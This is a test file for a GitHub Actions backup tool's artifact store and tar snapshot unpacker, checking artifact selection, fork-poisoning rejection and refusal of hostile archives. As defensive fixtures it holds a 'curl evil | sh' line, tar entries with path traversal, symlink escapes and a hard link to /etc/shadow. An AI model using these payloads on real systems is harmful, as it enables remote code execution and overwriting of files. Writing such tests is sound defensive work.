import { DefaultArtifactClient } from '@actions/artifact';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import tar from 'tar-stream';
import { UserError } from '../../src/errors.js';
import { ArtifactStore, defaultArtifactName, type ArtifactStoreOptions } from '../../src/store/artifact.js';
import {
  packSnapshot,
  restoreSnapshot,
  unpackSnapshot,
  UnsafeSnapshotError,
  withProcessEnv,
} from '../../src/store/snapshot.js';
import type { StoreContext } from '../../src/store/types.js';
import { emptyManifest, readManifest, serializeManifest, manifestPath } from '../../src/transfer/manifest/manifest.js';
import { startActionsServices, type ActionsServices, type RunOptions } from '../helpers/actions-services.js';
import { treePicture } from '../helpers/tree.js';

// The artifact store with the real @actions/artifact client against Azurite and a results-service
// double (see helpers/actions-services.ts). Runs are simulated by switching the env the store sees.

let svc: ActionsServices;
let scratch: string;

before(async () => {
  svc = await startActionsServices({ firstRunId: 1000 });
  scratch = svc.scratch;
});
after(async () => {
  await svc?.stop();
});

function context(domain: string): StoreContext & { log: string[] } {
  return svc.storeContext(domain);
}

/** The store as run `runId` sees it; `artifactBranch` is the input, the RunOptions describe the run. */
function store(
  runId: number,
  extra: Partial<ArtifactStoreOptions> & Omit<RunOptions, 'branch'> & { branch?: string; artifactBranch?: string } = {},
): ArtifactStore {
  const { attempt, job, workflow, event, branch, fork, artifactBranch, ...opts } = extra;
  return new ArtifactStore({
    name: '',
    githubToken: svc.githubToken,
    env: svc.runEnv(runId, { attempt, job, workflow, event, branch, fork }),
    ...opts,
    ...(artifactBranch !== undefined && { branch: artifactBranch }),
  });
}

/** A salvage as backups leave it: odd modes, fixed mtimes, links (one pointing at a runner secret), a manifest. */
function fillDomain(dir: string, variant: string): void {
  mkdirSync(join(dir, 'etc/app/keys'), { recursive: true });
  mkdirSync(join(dir, 'var/empty'), { recursive: true });
  writeFileSync(join(dir, 'etc/app/keys/dkim.key'), `secret ${variant}\n`);
  chmodSync(join(dir, 'etc/app/keys/dkim.key'), 0o600);
  writeFileSync(join(dir, 'etc/app/run.sh'), '#!/bin/sh\necho hi\n');
  chmodSync(join(dir, 'etc/app/run.sh'), 0o750);
  writeFileSync(join(dir, 'etc/app/empty'), '');
  writeFileSync(join(dir, 'etc/app/big.bin'), Buffer.alloc(3 << 20, variant));
  symlinkSync('/etc/passwd', join(dir, 'etc/app/passwd-link'));
  symlinkSync('keys/dkim.key', join(dir, 'etc/app/current.key'));
  chmodSync(join(dir, 'etc/app/keys'), 0o750);
  const m = emptyManifest('x');
  m.entries['etc/app'] = { remote: '/etc/app', recipe: 'App', type: 'dir' };
  m.files['etc/app/run.sh'] = {
    type: 'file',
    size: 18,
    mtime: 1_600_000_000,
    mode: '0750',
    uid: 0,
    gid: 0,
    user: 'root',
    group: 'root',
    sha256: createHash('sha256').update(variant).digest('hex'),
  };
  mkdirSync(join(dir, '.remote-files'));
  writeFileSync(manifestPath(dir), serializeManifest(m));
  for (const f of ['etc/app/keys/dkim.key', 'etc/app/run.sh', 'etc/app/big.bin'])
    utimesSync(join(dir, f), 1_600_000_000, 1_600_000_000);
  utimesSync(join(dir, 'etc/app/keys'), 1_500_000_000, 1_500_000_000);
}

/** Everything a restore must bring back, per path: type, permission bits, mtime, link target, content hash. */
const describeTree = (dir: string) =>
  Object.fromEntries(treePicture(dir, { modes: true, fileTimes: true, dirTimes: true, seconds: true }));

/** Directory mtimes change whenever something is created in them; compare them only where the test fixed them. */
function withoutDirTimes(tree: Record<string, string>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(tree).map(([k, v]) => [
      k,
      v.startsWith('dir ') && k !== 'etc/app/keys' ? v.replace(/ \d+$/, '') : v,
    ]),
  );
}

describe('artifact store', () => {
  test('a later run restores the upload: content, modes, mtimes, symlinks and manifest intact', async () => {
    const a = context('one.example');
    fillDomain(a.domainDir, 'A');
    const before = describeTree(a.domainDir);
    const saved = await store(1000).save(a, true);
    const mine = svc.artifacts().filter((x) => x.name === 'remote-files-one.example');
    assert.equal(mine.length, 1);
    assert.equal(saved.outputs['artifact-id'], String(mine[0]!.id));
    assert.equal(mine[0]!.runId, 1000);
    assert.match(mine[0]!.digest ?? '', /^sha256:[0-9a-f]{64}$/);

    // A different checkout in run 1001, with a stale file the restore must not keep.
    const b = context('one.example');
    mkdirSync(b.domainDir, { recursive: true });
    writeFileSync(join(b.domainDir, 'stale.txt'), 'old');
    const loaded = await store(1001).load(b);
    assert.equal(loaded.found, true);
    assert.equal(loaded.outputs['artifact-id'], String(mine[0]!.id));
    assert.match(loaded.summary, /run 1000/);
    assert.deepEqual(describeTree(b.domainDir), before);
    assert.equal(readlinkSync(join(b.domainDir, 'etc/app/passwd-link')), '/etc/passwd');
    assert.deepEqual(readManifest(b.domainDir, 'x'), readManifest(a.domainDir, 'x'));
    // Nothing of the swap is left beside the folder.
    assert.deepEqual(readdirSync(join(b.workspace, 'data')), ['one.example']);
  });

  test('a re-run of the job replaces its earlier artifact instead of failing on the name', async () => {
    const ctx = context('rerun.example');
    fillDomain(ctx.domainDir, 'first');
    const first = await store(1100).save(ctx, true);
    rmSync(ctx.domainDir, { recursive: true });
    fillDomain(ctx.domainDir, 'second');
    const expected = describeTree(ctx.domainDir);
    const second = await store(1100, { attempt: 2 }).save(ctx, true);
    assert.notEqual(second.outputs['artifact-id'], first.outputs['artifact-id']);
    const mine = svc.artifacts().filter((x) => x.name === 'remote-files-rerun.example');
    assert.deepEqual(
      mine.map((x) => x.id),
      [Number(second.outputs['artifact-id'])],
    );
    assert.ok(ctx.log.some((l) => l.includes('Replacing artifact remote-files-rerun.example')));

    const again = context('rerun.example');
    const loaded = await store(1100, { attempt: 2 }).load(again);
    assert.equal(loaded.found, true);
    assert.match(loaded.summary, /this run/);
    assert.deepEqual(withoutDirTimes(describeTree(again.domainDir)), withoutDirTimes(expected));
  });

  test('the newest unexpired artifact of earlier runs wins; artifact-run-id picks a run', async () => {
    const ctx = context('newest.example');
    const trees: Record<number, Record<string, string>> = {};
    const ids: Record<number, string> = {};
    for (const [run, variant] of [
      [1201, 'old'],
      [1202, 'new'],
    ] as const) {
      rmSync(ctx.domainDir, { recursive: true, force: true });
      fillDomain(ctx.domainDir, variant);
      trees[run] = describeTree(ctx.domainDir);
      ids[run] = (await store(run).save(ctx, true)).outputs['artifact-id']!;
    }
    // Another name in a later run must not be mistaken for ours.
    const other = context('other.example');
    fillDomain(other.domainDir, 'other');
    await store(1203).save(other, true);

    const newest = context('newest.example');
    const r = await store(1210).load(newest);
    assert.equal(r.outputs['artifact-id'], ids[1202]);
    assert.deepEqual(describeTree(newest.domainDir), trees[1202]);

    const pinned = context('newest.example');
    const p = await store(1210, { runId: 1201 }).load(pinned);
    assert.equal(p.outputs['artifact-id'], ids[1201]);
    assert.deepEqual(describeTree(pinned.domainDir), trees[1201]);

    const nothing = context('newest.example');
    const n = await store(1210, { runId: 1203 }).load(nothing);
    assert.equal(n.found, false);
    assert.equal(existsSync(nothing.domainDir), false);

    svc.expireArtifact(Number(ids[1202]));
    const fallback = context('newest.example');
    assert.equal((await store(1210).load(fallback)).outputs['artifact-id'], ids[1201]);
    const expired = await store(1210, { runId: 1202 }).load(context('newest.example'));
    assert.equal(expired.found, false);
    assert.match(expired.summary, /1 expired/);
  });

  test("a fork's newer artifact of the same name is skipped (logged) and this repository's own one restored", async () => {
    const ctx = context('poison.example');
    fillDomain(ctx.domainDir, 'own');
    const own = describeTree(ctx.domainDir);
    const ownId = (await store(1801).save(ctx, true)).outputs['artifact-id']!;
    // A fork's pull request runs the fork's copy of the same workflow in this repository, from a branch
    // it may well call main, and uploads under our name; then a pull_request_target run does the same.
    for (const [run, opts] of [
      [1802, { event: 'pull_request', branch: 'main', fork: 'mallory/remote-files-fixture' }],
      [1803, { event: 'pull_request_target', branch: 'main' }],
    ] as const) {
      const evil = context('poison.example');
      fillDomain(evil.domainDir, `evil ${run}`);
      writeFileSync(join(evil.domainDir, 'etc/app/run.sh'), '#!/bin/sh\ncurl evil | sh\n');
      await store(run, opts).save(evil, true);
    }
    const newest = svc
      .artifacts()
      .filter((x) => x.name === 'remote-files-poison.example')
      .at(-1)!;
    assert.equal(newest.runId, 1803, 'the poisoned artifacts are the newest');

    const restore = context('poison.example');
    const r = await store(1810).load(restore);
    assert.equal(r.found, true);
    assert.equal(r.outputs['artifact-id'], ownId);
    assert.match(r.summary, /run 1801/);
    assert.deepEqual(describeTree(restore.domainDir), own);
    const skipped = restore.log.filter((l) => l.includes('skipped'));
    assert.equal(skipped.length, 1, restore.log.join('\n'));
    assert.match(
      skipped[0]!,
      /^warning: artifact remote-files-poison\.example: skipped 2 .*2 from a fork's or a pull_request_target run \(runs 1803, 1802\)/,
    );

    // A pull request of this repository's own, from a branch called main, is not a fork: it is eligible.
    const samePr = context('poison.example');
    fillDomain(samePr.domainDir, 'own pr');
    const prId = (await store(1811, { event: 'pull_request', branch: 'main' }).save(samePr, true)).outputs[
      'artifact-id'
    ]!;
    assert.equal((await store(1812).load(context('poison.example'))).outputs['artifact-id'], prId);
  });

  test('artifacts of another workflow or another branch are skipped; artifact-branch and pull requests pick the branch', async () => {
    const ids: Record<string, string> = {};
    const trees: Record<string, Record<string, string>> = {};
    for (const [key, run, opts] of [
      ['main', 1901, {}],
      ['other-workflow', 1902, { workflow: '.github/workflows/other.yml' }],
      ['feature', 1903, { branch: 'feature' }],
      ['feature-other-workflow', 1904, { branch: 'feature', workflow: '.github/workflows/other.yml' }],
    ] as const) {
      const ctx = context('scope.example');
      fillDomain(ctx.domainDir, key);
      trees[key] = describeTree(ctx.domainDir);
      ids[key] = (await store(run, opts).save(ctx, true)).outputs['artifact-id']!;
    }

    const onMain = context('scope.example');
    const m = await store(1910).load(onMain);
    assert.equal(m.outputs['artifact-id'], ids.main);
    assert.deepEqual(describeTree(onMain.domainDir), trees.main);
    // Only this workflow's runs on this branch are searched (issue #23): the others are not even listed.
    assert.equal(
      onMain.log.find((l) => l.includes('skipped')),
      undefined,
      onMain.log.join('\n'),
    );

    // A run on the feature branch (a push, or this repository's pull request from it) takes feature's.
    assert.equal(
      (await store(1911, { branch: 'feature' }).load(context('scope.example'))).outputs['artifact-id'],
      ids.feature,
    );
    assert.equal(
      (await store(1912, { branch: 'feature', event: 'pull_request' }).load(context('scope.example'))).outputs[
        'artifact-id'
      ],
      ids.feature,
    );
    // artifact-branch names the branch for a run on another one (a restore from main's backups).
    const fromFeature = context('scope.example');
    const f = await store(1914, { branch: 'release', artifactBranch: 'feature' }).load(fromFeature);
    assert.equal(f.outputs['artifact-id'], ids.feature);
    assert.deepEqual(describeTree(fromFeature.domainDir), trees.feature);
    // The other workflow's run of feature sees only its own workflow's artifacts.
    assert.equal(
      (await store(1915, { branch: 'feature', workflow: '.github/workflows/other.yml' }).load(context('scope.example')))
        .outputs['artifact-id'],
      ids['feature-other-workflow'],
    );
  });

  test('nothing eligible: found is false, and the log says which workflow and branch were searched and what to set', async () => {
    const evil = context('lonely.example');
    fillDomain(evil.domainDir, 'evil');
    await store(2001, { event: 'pull_request', branch: 'main', fork: 'mallory/remote-files-fixture' }).save(evil, true);
    const other = context('lonely.example');
    fillDomain(other.domainDir, 'dev');
    await store(2002, { branch: 'dev' }).save(other, true);

    const ctx = context('lonely.example');
    mkdirSync(ctx.domainDir, { recursive: true });
    writeFileSync(join(ctx.domainDir, 'mine.txt'), 'keep me');
    const r = await store(2010).load(ctx);
    assert.equal(r.found, false);
    assert.deepEqual(r.outputs, {});
    assert.match(
      r.summary,
      /no artifact remote-files-lonely\.example found in this run or an earlier one of octo-org\/remote-files-fixture's own runs of \.github\/workflows\/remote-files\.yml on branch main \(\d+ skipped\)/,
    );
    assert.match(r.summary, /`artifact-branch`/);
    assert.match(r.summary, /`artifact-run-id`/);
    assert.ok(ctx.log.includes(r.summary), 'the reason is in the log, not only in the step summary');
    assert.ok(
      // Runs of this workflow on this branch that forks started (this file's earlier ones too), 2001 the newest.
      ctx.log.some((l) =>
        /^warning: .*skipped \d+ .*from a fork's or a pull_request_target run \(runs? 2001[,)]/.test(l),
      ),
      ctx.log.join('\n'),
    );
    assert.deepEqual(readdirSync(ctx.domainDir), ['mine.txt']);
  });

  test("artifact-run-id takes an own run of any workflow or branch, and refuses a fork's run", async () => {
    const ctx = context('pinned.example');
    fillDomain(ctx.domainDir, 'elsewhere');
    const tree = describeTree(ctx.domainDir);
    const id = (await store(2101, { branch: 'nightly', workflow: '.github/workflows/backup.yml' }).save(ctx, true))
      .outputs['artifact-id']!;
    const evil = context('pinned.example');
    fillDomain(evil.domainDir, 'evil');
    await store(2102, { event: 'pull_request', branch: 'nightly', fork: 'mallory/remote-files-fixture' }).save(
      evil,
      true,
    );

    const pinned = context('pinned.example');
    const p = await store(2110, { runId: 2101 }).load(pinned);
    assert.equal(p.outputs['artifact-id'], id);
    assert.deepEqual(describeTree(pinned.domainDir), tree);

    const refused = context('pinned.example');
    mkdirSync(refused.domainDir, { recursive: true });
    await assert.rejects(
      store(2111, { runId: 2102 }).load(refused),
      (err: Error) =>
        err instanceof UserError &&
        /artifact-run-id/.test(err.message) &&
        /run 2102 was started from the fork mallory\/remote-files-fixture \(event pull_request\)/.test(err.message),
    );
    assert.deepEqual(readdirSync(refused.domainDir), []);

    const missing = await store(2112, { runId: 999999 }).load(context('pinned.example'));
    assert.equal(missing.found, false);
    assert.match(missing.summary, /no such run/);
  });

  test('no artifact anywhere: found is false and the folder is left as it was', async () => {
    const ctx = context('never.example');
    mkdirSync(ctx.domainDir, { recursive: true });
    writeFileSync(join(ctx.domainDir, 'mine.txt'), 'keep me');
    const r = await store(1300).load(ctx);
    assert.equal(r.found, false);
    assert.deepEqual(r.outputs, {});
    assert.equal(readFileSync(join(ctx.domainDir, 'mine.txt'), 'utf8'), 'keep me');
  });

  test('a token without actions: read is named in the error; an empty token too', async () => {
    const ctx = context('denied.example');
    await assert.rejects(
      store(1400, { githubToken: svc.deniedToken }).load(ctx),
      (err: Error) => err instanceof UserError && /HTTP 403/.test(err.message) && /actions: read/.test(err.message),
    );
    await assert.rejects(
      store(1400, { githubToken: '' }).load(ctx),
      (err: Error) => err instanceof UserError && /github-token/.test(err.message) && /actions: read/.test(err.message),
    );
  });

  test('outside a job (no runtime token) the store says so instead of failing obscurely', async () => {
    const ctx = context('noruntime.example');
    fillDomain(ctx.domainDir, 'x');
    const s = new ArtifactStore({
      name: '',
      githubToken: 't',
      env: { ...svc.runEnv(1500), ACTIONS_RUNTIME_TOKEN: undefined },
    });
    await assert.rejects(
      s.save(ctx, true),
      (err: Error) => err instanceof UserError && /ACTIONS_RUNTIME_TOKEN/.test(err.message),
    );
  });

  test('names: the default is sanitised, a custom one is used as is; retention days reach the service', async () => {
    assert.equal(defaultArtifactName('a:b/c.example'), 'remote-files-a-b-c.example');
    const ctx = context('custom.example');
    fillDomain(ctx.domainDir, 'c');
    await store(1600, { name: 'my-salvage', retentionDays: 5 }).save(ctx, true);
    const mine = svc.artifacts().find((x) => x.name === 'my-salvage' && x.runId === 1600);
    const days = ((mine?.expiresAt?.getTime() ?? 0) - Date.now()) / 86400_000;
    assert.ok(days > 4.9 && days <= 5, `retention asked for 5 days, got ${days}`);
    assert.throws(() => new ArtifactStore({ name: '..', githubToken: '' }).artifactName('d'), UserError);
  });

  test('a hostile artifact is refused whole and the domain folder is left untouched', async () => {
    const ctx = context('hostile.example');
    mkdirSync(ctx.domainDir, { recursive: true });
    writeFileSync(join(ctx.domainDir, 'good.txt'), 'good');
    const outside = join(scratch, 'outside');
    mkdirSync(outside);
    // Uploaded with the real client, as a compromised earlier run could have.
    const work = mkdtempSync(join(scratch, 'upload-'));
    const file = join(work, 'remote-files-hostile.example');
    writeFileSync(
      file,
      await tarOf([
        { name: 'escape', type: 'symlink', linkname: outside },
        { name: 'escape/pwned', content: 'gotcha' },
      ]),
    );
    await withProcessEnv(svc.runEnv(1700), undefined, () =>
      new DefaultArtifactClient().uploadArtifact('remote-files-hostile.example', [file], work, { skipArchive: true }),
    );
    await assert.rejects(store(1701).load(ctx), UnsafeSnapshotError);
    assert.deepEqual(readdirSync(outside), []);
    assert.deepEqual(readdirSync(ctx.domainDir), ['good.txt']);
    assert.deepEqual(readdirSync(join(ctx.workspace, 'data')), ['hostile.example']);
  });
});

interface Member {
  name: string;
  type?: 'file' | 'directory' | 'symlink' | 'link' | 'fifo' | 'character-device';
  content?: string;
  linkname?: string;
  mode?: number;
}

/** A tar made with tar-stream, member by member, exactly as given (no checks). */
async function tarOf(members: Member[]): Promise<Buffer> {
  const pack = tar.pack();
  const chunks: Buffer[] = [];
  const collected = (async () => {
    for await (const c of pack) chunks.push(c as Buffer);
  })();
  for (const m of members) {
    await new Promise<void>((resolve, reject) => {
      const header = {
        name: m.name,
        type: m.type ?? 'file',
        mode: m.mode ?? 0o644,
        mtime: new Date(1_600_000_000_000),
        ...(m.linkname !== undefined && { linkname: m.linkname }),
      };
      const cb = (err?: Error | null) => (err ? reject(err) : resolve());
      if ((m.type ?? 'file') === 'file') pack.entry(header, m.content ?? '', cb);
      else pack.entry(header, cb);
    });
  }
  pack.finalize();
  await collected;
  return Buffer.concat(chunks);
}

describe('snapshot unpacker', () => {
  const hostile: Array<[string, Member[], RegExp]> = [
    ['an absolute name', [{ name: '/etc/cron.d/evil', content: 'x' }], /absolute/],
    ['a ".." name', [{ name: '../evil', content: 'x' }], /\.\./],
    [
      'a ".." inside a name',
      [
        { name: 'a/', type: 'directory' },
        { name: 'a/../../evil', content: 'x' },
      ],
      /\.\./,
    ],
    // The link points at the test's own folder (a regression must not write into a shared one).
    [
      'a write through a symlink',
      [
        { name: 'link', type: 'symlink', linkname: '..' },
        { name: 'link/evil', content: 'x' },
      ],
      /not a folder of this archive/,
    ],
    [
      'a write through an absolute symlink',
      [
        { name: 'link', type: 'symlink', linkname: '@DIR@' },
        { name: 'link/evil', content: 'x' },
      ],
      /not a folder of this archive/,
    ],
    [
      'a write through a file name',
      [
        { name: 'f', content: 'x' },
        { name: 'f/evil', content: 'x' },
      ],
      /not a folder of this archive/,
    ],
    ['a hard link', [{ name: 'h', type: 'link', linkname: '/etc/shadow' }], /type \(link\)/],
    ['a device', [{ name: 'd', type: 'character-device' }], /type \(character-device\)/],
    ['a fifo', [{ name: 'p', type: 'fifo' }], /type \(fifo\)/],
    [
      'a duplicate member (a later one replacing a folder by a link)',
      [
        { name: 'd/', type: 'directory' },
        { name: 'd', type: 'symlink', linkname: '/' },
      ],
      /twice/,
    ],
    [
      'a member whose folder is not in the archive',
      [{ name: 'nowhere/x', content: 'x' }],
      /not in the archive before it/,
    ],
    ['a name not in canonical form', [{ name: './x', content: 'x' }], /canonical/],
    [
      'a doubled slash',
      [
        { name: 'a/', type: 'directory' },
        { name: 'a//x', content: 'x' },
      ],
      /canonical/,
    ],
  ];
  for (const [what, members, why] of hostile) {
    test(`refuses ${what}, and a restore leaves the folder as it was`, async () => {
      const dir = mkdtempSync(join(scratch, 'hostile-'));
      const file = join(dir, 'snap.tar');
      writeFileSync(file, await tarOf(members.map((m) => (m.linkname === '@DIR@' ? { ...m, linkname: dir } : m))));
      const domainDir = join(dir, 'data', 'd.example');
      mkdirSync(domainDir, { recursive: true });
      writeFileSync(join(domainDir, 'keep'), 'kept');
      await assert.rejects(
        restoreSnapshot(file, domainDir),
        (err: Error) => err instanceof UnsafeSnapshotError && why.test(err.message),
      );
      assert.deepEqual(readdirSync(join(dir, 'data')), ['d.example']);
      assert.deepEqual(readdirSync(domainDir), ['keep']);
      assert.deepEqual(readdirSync(dir).sort(), ['data', 'snap.tar']);
    });
  }

  test('refuses a snapshot cut short, inside a member or right after one', async () => {
    const dir = mkdtempSync(join(scratch, 'cut-'));
    const src = join(dir, 'src');
    mkdirSync(src);
    writeFileSync(join(src, 'a'), 'a'.repeat(2000));
    writeFileSync(join(src, 'b'), 'b'.repeat(100));
    const file = join(dir, 'snap.tar');
    await packSnapshot(src, file);
    const whole = readFileSync(file);
    // Inside b's content; exactly at the end of b's data (the end-of-archive blocks missing).
    const bEnd = whole.length - 1024;
    for (const cut of [bEnd - 300, bEnd]) {
      writeFileSync(file, whole.subarray(0, cut));
      await assert.rejects(unpackSnapshot(file, join(dir, `out-${cut}`)), /truncated|Unexpected end of data/);
    }
    writeFileSync(file, whole);
    const ok = await unpackSnapshot(file, join(dir, 'out-ok'));
    assert.deepEqual(ok, { files: 2, dirs: 0, symlinks: 0, bytes: 2100 });
  });

  test('packing never follows a link and skips what no store can hold', async () => {
    const dir = mkdtempSync(join(scratch, 'pack-'));
    const src = join(dir, 'src');
    mkdirSync(src);
    symlinkSync('/etc', join(src, 'etc-link'));
    writeFileSync(join(src, '.rf-tmp-abc123'), 'leftover of a cut-off write');
    const { execFileSync } = await import('node:child_process');
    execFileSync('mkfifo', [join(src, 'pipe')]);
    const skipped: string[] = [];
    const stats = await packSnapshot(src, join(dir, 'snap.tar'), (rel) => skipped.push(rel));
    assert.deepEqual(stats, { files: 0, dirs: 0, symlinks: 1, bytes: 0 });
    assert.deepEqual(skipped, ['pipe']);
    const out = join(dir, 'out');
    await unpackSnapshot(join(dir, 'snap.tar'), out);
    assert.deepEqual(readdirSync(out), ['etc-link']);
    assert.equal(readlinkSync(join(out, 'etc-link')), '/etc');
  });
});
